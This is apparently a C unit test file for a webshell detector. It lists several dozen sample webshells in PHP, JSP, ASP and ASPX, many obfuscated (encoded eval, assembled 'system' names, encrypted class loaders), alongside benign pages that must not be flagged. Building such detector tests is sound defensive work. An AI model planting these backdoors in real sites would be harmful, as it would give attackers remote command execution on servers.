/* The webshell judge on shells and pages of our own: what is hidden is found, what is ordinary is
 * left alone, and neither the pieces in which bytes come nor what they are changes how it ends. */
#include "harness.h"

#include "base/prng.h"
#include "detect/malware/webshell.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static struct webshell *shell;
static struct arena *arena;

static int set_up(void **state)
{
    (void)state;
    return webshell_new(&shell) < 0 || arena_new(1 << 20, &arena) < 0 ? -1 : 0;
}

static int tear_down(void **state)
{
    (void)state;
    webshell_free(shell);
    arena_free(arena);
    return 0;
}

static struct webshell_verdict judge(const char *name, struct str text)
{
    struct webshell_verdict verdict;

    arena_reset(arena);
    assert_int_equal(webshell_judge(shell, str_from(name), text, arena, &verdict), 0);
    return verdict;
}

static bool has_rule(const struct webshell_verdict *verdict, const char *rule)
{
    for (size_t i = 0; i < verdict->reason_count; i++) {
        if (str_is_text(str_from(verdict->reasons[i].rule), rule)) {
            return true;
        }
    }
    return false;
}

static const struct {
    const char *name;
    const char *text;
    const char *rule; /* that must be among the reasons */
} shells[] = {
    {"a.php", "<?php eval($_POST['x']); ?>", "input-to-code"},
    {"a.php", "<?php\n$a = \"as\" . 'sert';\n$a($_POST['x']);", "hidden-name"},
    {"a.php", "<?php $f = chr(115).chr(121).chr(115).\"tem\"; $f($_GET['c']); ?>",
     "input-to-command"},
    {"a.php", "<?php $c = $_GET['c']; echo shell_exec($c . ' 2>&1'); ?>", "input-to-command"},
    {"a.php", "<?= `$_GET[c]` ?>", "input-to-command"},
    {"a.php", "<?php $_GET['f']($_POST['a']); ?>", "input-as-function"},
    {"a.php", "<?php $k = '_PO' . 'ST'; ${$k}['f'](${$k}['a']); ?>", "input-as-function"},
    {"a.php", "<?php array_map('ass' . 'ert', array($_REQUEST['x'])); ?>", "input-to-code"},
    {"a.php", "<?php @preg_replace('/x/e', $_POST['x'], 'x'); ?>", "input-to-code"},
    {"a.php", "<?php include 'php://input'; ?>", "input-to-code"},
    /* eval($_POST["x"]); in base64 */
    {"a.php", "<?php eval(base64_decode('ZXZhbCgkX1BPU1RbIngiXSk7')); ?>", "input-to-code"},
    {"a.php", "<?php eval(str_rot13('riny($_CBFG[\"k\"]);')); ?>", "hidden-code"},
    {"a.php", "<?php $s = str_replace('#', '', 's#y#s#t#e#m'); $s($_REQUEST[0]); ?>",
     "input-to-command"},
    {"a.php", "<?php $s = \"\\x73\\x79\\x73\\x74\\x65\\x6d\"; $s($_COOKIE['q']); ?>",
     "input-to-command"},
    {"a.php", "<?php $t = 'zmetsys'; $s = strrev(substr($t, 1)); $s($_GET['q']); ?>",
     "input-to-command"},
    {"a.php", "<?php foreach ($_POST as $k => $v) { if ($k == 'z') { system($v); } } ?>",
     "input-to-command"},
    {"picture.php.jpg", "GIF89a<?php system($_GET['c']); ?>", "input-to-command"},
    {"a.jsp",
     "<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"c\")); "
     "%>",
     "input-to-command"},
    {"a.jsp",
     "<% String c = request.getParameter(\"c\"); Process p = new ProcessBuilder(\"sh\", \"-c\", c)"
     ".start(); %>",
     "input-to-command"},
    {"a.jspx",
     "<jsp:root><jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter(\"c\"));"
     "</jsp:scriptlet></jsp:root>",
     "input-to-command"},
    {"a.asp", "<% eval request(\"x\") %>", "input-to-code"},
    {"a.asp",
     "<%\nSet s = Server.CreateObject(\"WScr\" & \"ipt.Shell\")\ns.Run Request.Form(\"c\"), 0, "
     "True\n%>",
     "input-to-command"},
    {"a.aspx", "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"x\"],\"unsafe\");%>",
     "input-to-code"},
    {"a.aspx",
     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object o, EventArgs e) {"
     "System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request[\"c\"]); }</script>",
     "input-to-command"},
    {"a.aspx",
     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Go(object o, EventArgs e) {"
     "Process p = new Process(); p.StartInfo.FileName = box.Text; p.Start(); }</script>",
     "input-to-command"},
    {"a.ashx",
     "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nclass H : IHttpHandler { string Run(string a)"
     " { Process p = new Process(); p.StartInfo.FileName = \"cmd.exe\"; "
     "p.StandardInput.WriteLine(a);"
     " return p.StandardOutput.ReadToEnd(); } }",
     "runs-a-shell"},
    {"a.aspx",
     "<%@ Page Language=\"C#\" %><% byte[] d = Convert.FromBase64String(Request[\"p\"]); d = new "
     "RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(d, 0, d.Length); "
     "((Assembly)typeof(Assembly).GetMethod(\"Load\").Invoke(null, new object[] { d }))"
     ".CreateInstance(\"L\"); %>",
     "encrypted-loader"},
    {"a.jsp",
     "<%! class L extends ClassLoader { Class g(byte[] b) { return super.defineClass(b, 0, "
     "b.length);"
     " } } %><% String s = request.getReader().readLine(); Cipher c = Cipher.getInstance(\"AES\"); "
     "new L().g(c.doFinal(d.decode(s))).newInstance(); %>",
     "encrypted-loader"},
    {"a.aspx", "<%@ Page Language=\"Jscript\"%><%var a:String=Request[\"x\"];eval(a,\"unsafe\");%>",
     "input-to-code"},
    {"a.aspx",
     "<%@ Page Language=\"C#\" %><% provider.CompileAssemblyFromSource(how, Request[\"c\"]); %>",
     "input-to-code"},
    {"a.aspx",
     "<%@ Page Language=\"C#\" %><% string x = \"<xsl:stylesheet "
     "xmlns:m='urn:schemas-microsoft-com:"
     "xslt'><m:script>go()</m:script></xsl:stylesheet>\"; XslCompiledTransform t = new "
     "XslCompiledTransform(); %>",
     "script-in-stylesheet"},
    {"a.aspx",
     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Go(object o, EventArgs e) {"
     "SqlConnection c = new SqlConnection(); c.ConnectionString = \"Data source=\" + server.Text; "
     "c.Open(); }</script>",
     "input-to-database"},
    {"a.aspx", "<%@ Page Language=\"C#\" %><% new LosFormatter().Deserialize(Request[\"s\"]); %>",
     "input-to-class"},
    {"a.jsp", "<% Connection c = DriverManager.getConnection(request.getParameter(\"url\")); %>",
     "input-to-database"},
    {"a.jsp",
     "<%! \\u0053\\u0074\\u0072\\u0069\\u006e\\u0067\\u0020\\u0063\\u003d\\u0022\\u0078\\u0022"
     "\\u003b%><% \\u0052\\u0075\\u006e\\u0074\\u0069\\u006d\\u0065\\u002e\\u0067\\u0065\\u0074"
     "\\u0052\\u0075\\u006e\\u0074\\u0069\\u006d\\u0065\\u0028\\u0029\\u002e\\u0065\\u0078\\u0065"
     "\\u0063\\u0028\\u0072\\u0065\\u0071\\u0075\\u0065\\u0073\\u0074\\u002e\\u0067\\u0065\\u0074"
     "\\u0050\\u0061\\u0072\\u0061\\u006d\\u0065\\u0074\\u0065\\u0072(\"c\")); %>",
     "input-to-command"},
    {"a.php", "<?php $f = ~'\x8c\x86\x8c\x8b\x9a\x92'; $f($_GET['c']); ?>", "input-to-command"},
    {"a.php",
     "<?php foreach (array('_POST') as $n) { foreach ($$n as $k => $v) { $$k = $v; } } $k($v); ?>",
     "input-as-function"},
};

static void test_shells_are_found(void **state)
{
    unsigned wrong = 0;

    (void)state;
    for (size_t i = 0; i < sizeof(shells) / sizeof(shells[0]); i++) {
        struct webshell_verdict verdict = judge(shells[i].name, str_from(shells[i].text));

        if (verdict.outcome == WEBSHELL_OUTCOME_BENIGN || !has_rule(&verdict, shells[i].rule)) {
            print_error("%s: %s (%.2f), first reason %s\n", shells[i].text,
                        webshell_outcome_name(verdict.outcome), verdict.score,
                        verdict.reason_count != 0 ? verdict.reasons[0].rule : "none");
            wrong++;
        }
    }
    assert_int_equal(wrong, 0);
}

static const struct {
    const char *name;
    const char *text;
} pages[] = {
    {"a.php", "<html><body><?php echo htmlspecialchars($_GET['q'], ENT_QUOTES); ?></body></html>"},
    {"a.php", "<?php\nnamespace App;\nclass Page extends Base\n{\n    public function show(array "
              "$rows): string\n"
              "    {\n        return implode(', ', array_map('trim', $rows));\n    }\n}\n"},
    {"a.php", "<?php require __DIR__ . '/vendor/autoload.php'; $id = (int)$_GET['id']; show($id);"},
    {"a.php", "<?php // eval($_POST['x']) is what a webshell does\necho 'Xin chào';"},
    {"a.txt", "eval($_POST['x']) system($_GET['c'])"},
    {"a.jsp",
     "<%@ page contentType=\"text/html\" %><html><% for (int i = 0; i < 3; i++) { %><p><%= i %></p>"
     "<% } %></html>"},
    {"a.asp", "<html><body><% Response.Write \"Xin chao \" & Server.HTMLEncode(Request(\"ten\")) "
              "%></body></html>"},
    {"a.aspx", "<%@ Page Language=\"C#\" %><asp:Label id=\"l\" runat=\"server\" Text='<%# "
               "Eval(\"Name\") %>' />"},
    {"a.aspx",
     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Save(object o, EventArgs e) "
     "{ Title.Text = name.Text; file.Arguments = name.Text; }</script>"},
    {"a.aspx", "<%@ Page Language=\"C#\" %><% var c = new SqlConnection(ConfigurationManager"
               ".ConnectionStrings[\"db\"].ConnectionString); c.Open(); %>"},
    {"a.jsp", "<% out.println(\"\\u0054\\u00ean \\u0111\\u0103ng nh\\u1eadp\"); %>"},
    {"a.html", "<html><script>eval(location.hash)</script></html>"},
    {"a.php", ""},
};

static void test_pages_are_left_alone(void **state)
{
    unsigned wrong = 0;

    (void)state;
    for (size_t i = 0; i < sizeof(pages) / sizeof(pages[0]); i++) {
        struct webshell_verdict verdict = judge(pages[i].name, str_from(pages[i].text));

        if (verdict.outcome != WEBSHELL_OUTCOME_BENIGN) {
            print_error("%s: %s (%.2f)\n", pages[i].text, webshell_outcome_name(verdict.outcome),
                        verdict.score);
            wrong++;
        }
    }
    assert_int_equal(wrong, 0);
}

static void test_the_place_is_told(void **state)
{
    struct webshell_verdict verdict =
        judge("a.php", STR("<?php\n\n\n  eval($_POST['\x1b[2Jx']); ?>\n"));

    (void)state;
    assert_true(verdict.reason_count >= 1);
    assert_int_equal(verdict.reasons[0].line, 4);
    assert_true(verdict.reasons[0].snippet.len <= WEBSHELL_SNIPPET_MAX);
    assert_true(str_has_prefix(verdict.reasons[0].snippet, STR("eval($_POST['?[2Jx']")));
}

/* What hides in a constant is told at the line that hides it. */
static void test_hidden_code_has_the_line_that_hides_it(void **state)
{
    struct webshell_verdict verdict =
        judge("a.php", STR("<?php\necho 1;\neval(base64_decode('ZXZhbCgkX1BPU1RbIngiXSk7'));\n"));

    (void)state;
    assert_int_equal(verdict.layers, 1);
    assert_true(has_rule(&verdict, "input-to-code"));
    for (size_t i = 0; i < verdict.reason_count; i++) {
        assert_int_equal(verdict.reasons[i].line, 3);
    }
}

static void test_pieces_make_no_difference(void **state)
{
    struct prng prng;

    (void)state;
    prng_init(&prng, 7);
    for (size_t i = 0; i < sizeof(shells) / sizeof(shells[0]); i++) {
        struct str text = str_from(shells[i].text);
        struct webshell_verdict whole = judge(shells[i].name, text);
        struct webshell_verdict verdict;

        webshell_begin(shell, str_from(shells[i].name));
        for (size_t at = 0; at < text.len;) {
            size_t n = (size_t)prng_below(&prng, 7) + 1;

            webshell_feed(shell, str_slice(text, at, at + n));
            at += n;
        }
        assert_int_equal(webshell_end(shell, arena, &verdict), 0);
        assert_int_equal(verdict.outcome, whole.outcome);
        assert_true(verdict.score == whole.score);
        assert_int_equal(verdict.reason_count, whole.reason_count);
    }
}

/* A shell at either end of a file that is too long to be read whole is found, and it is said that
 * its middle was not seen. */
static void test_long_files_are_read_at_both_ends(void **state)
{
    static const char text[] = "<?php system($_GET['c']); ?>";
    const size_t len = 3 * (size_t)WEBSHELL_LIMIT + 12345;
    char *file = malloc(len);

    (void)state;
    assert_non_null(file);
    for (int end = 0; end < 2; end++) {
        struct webshell_verdict verdict;

        memset(file, ' ', len);
        memcpy(end == 0 ? file : file + len - sizeof(text) + 1, text, sizeof(text) - 1);
        verdict = judge("a.php", str_of(file, len));
        assert_true(verdict.is_partial);
        assert_true(has_rule(&verdict, "input-to-command"));
    }
    free(file);
}

/* Whatever stands in a file, the judge ends, and says the same again. */
static void test_any_bytes(void **state)
{
    static const char *const parts[] = {"<?php ", "$a=", "eval(",  "base64_decode(",
                                        "'",      "\"",  "`",      "(",
                                        ")",      "[",   "]",      "{",
                                        "}",      ".",   ";",      "<%",
                                        "%>",     "?>",  "chr(1)", "/*",
                                        "<<<X\n", "\\x", "&",      "$_GET"};
    static const char *const names[] = {"a.php", "a.jsp", "a.asp", "a.aspx", "a.ashx", ""};
    static char text[65536];
    struct prng prng;

    (void)state;
    prng_init(&prng, 11);
    for (unsigned round = 0; round < 600; round++) {
        size_t len = 0;
        size_t most = (size_t)prng_below(&prng, round % 40 == 0 ? sizeof(text) - 16 : 400);
        const char *name = names[prng_below(&prng, 6)];
        struct webshell_verdict first;

        while (len < most) {
            const char *part = parts[prng_below(&prng, sizeof(parts) / sizeof(parts[0]))];

            memcpy(text + len, part, strlen(part));
            len += strlen(part);
        }
        first = judge(name, str_of(text, len));
        assert_true(first.score == judge(name, str_of(text, len)).score);
    }
}

/* Constants that grow without end are cut, and it is said. */
static void test_folding_is_bounded(void **state)
{
    static char text[400000];
    size_t len = (size_t)snprintf(text, sizeof(text), "<?php $a = '%0*d';", 1000, 7);
    struct webshell_verdict verdict;

    (void)state;
    while (len < sizeof(text) - 64) {
        len += (size_t)snprintf(text + len, 64, "$a = $a . $a . strrev($a);");
    }
    verdict = judge("a.php", str_of(text, len));
    assert_true(verdict.is_fold_cut);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_shells_are_found),
        cmocka_unit_test(test_pages_are_left_alone),
        cmocka_unit_test(test_the_place_is_told),
        cmocka_unit_test(test_hidden_code_has_the_line_that_hides_it),
        cmocka_unit_test(test_pieces_make_no_difference),
        cmocka_unit_test(test_long_files_are_read_at_both_ends),
        cmocka_unit_test(test_any_bytes),
        cmocka_unit_test(test_folding_is_bounded),
    };

    return cmocka_run_group_tests(tests, set_up, tear_down);
}
